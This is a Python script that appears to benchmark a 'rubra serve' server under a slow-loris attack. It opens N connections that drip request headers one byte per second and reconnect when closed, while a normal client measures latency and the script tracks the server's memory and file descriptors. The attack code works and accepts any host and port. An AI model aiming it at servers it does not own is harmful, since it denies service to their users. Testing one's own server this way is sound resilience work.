"""Slow-loris against a running `rubra serve`: N connections send a request's headers one byte
per second (reconnecting whenever the server closes one), while a normal client sends one
request every 100 ms on a fresh connection and times it. Prints one table row.

usage: loris.py HOST PORT N SECONDS SERVER_PID
"""
import asyncio
import os
import sys
import time

HOST, PORT, N, SECS, PID = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
HEADERS = b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-Loris: " + b"a" * 4000 + b"\r\n\r\n"

stats = {"opened": 0, "closed_by_server": 0, "connect_failed": 0}


async def loris(stop):
    """One slow-loris slot: drip a header byte a second; reconnect when closed."""
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(HOST, PORT)
        except OSError:
            stats["connect_failed"] += 1
            await asyncio.sleep(1)
            continue
        stats["opened"] += 1
        try:
            for i in range(len(HEADERS)):
                if stop.is_set():
                    break
                writer.write(HEADERS[i : i + 1])
                await writer.drain()
                # A closed connection reads EOF at once; otherwise wait a second.
                try:
                    data = await asyncio.wait_for(reader.read(1), timeout=1.0)
                    if not data:
                        stats["closed_by_server"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
        except (ConnectionError, OSError):
            stats["closed_by_server"] += 1
        finally:
            writer.close()


async def normal(stop, latencies, failures):
    """The polite client: GET /healthz on a new connection every 100 ms."""
    while not stop.is_set():
        t0 = time.perf_counter()
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, PORT), 5)
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            await writer.drain()
            body = await asyncio.wait_for(reader.read(), 5)
            writer.close()
            if body.startswith(b"HTTP/1.1 200"):
                latencies.append((time.perf_counter() - t0) * 1000)
            else:
                failures.append(body[:40])
        except (OSError, asyncio.TimeoutError) as e:
            failures.append(repr(e))
        await asyncio.sleep(0.1)


def rss_kb_and_fds(pid):
    with open(f"/proc/{pid}/status") as f:
        rss = next(int(l.split()[1]) for l in f if l.startswith("VmRSS:"))
    return rss, len(os.listdir(f"/proc/{pid}/fd"))


async def main():
    stop = asyncio.Event()
    latencies, failures = [], []
    tasks = [asyncio.create_task(loris(stop)) for _ in range(N)]
    await asyncio.sleep(2)  # let the flood open its connections
    polite = asyncio.create_task(normal(stop, latencies, failures))
    peak_rss, peak_fds = 0, 0
    end = time.monotonic() + SECS
    while time.monotonic() < end:
        await asyncio.sleep(1)
        rss, fds = rss_kb_and_fds(PID)
        peak_rss, peak_fds = max(peak_rss, rss), max(peak_fds, fds)
    stop.set()
    await polite
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    lat = sorted(latencies)
    pct = lambda p: lat[min(len(lat) - 1, int(p * len(lat)))] if lat else float("nan")
    print(
        f"| {N} | {SECS:.0f} | {len(lat)} | {len(failures)} | {pct(0.5):.1f} | {pct(0.99):.1f} | "
        f"{(lat[-1] if lat else float('nan')):.1f} | {stats['opened']} | {stats['closed_by_server']} | "
        f"{peak_fds} | {peak_rss / 1024:.0f} |"
    )
    if failures:
        print("failures:", failures[:5], file=sys.stderr)


asyncio.run(main())
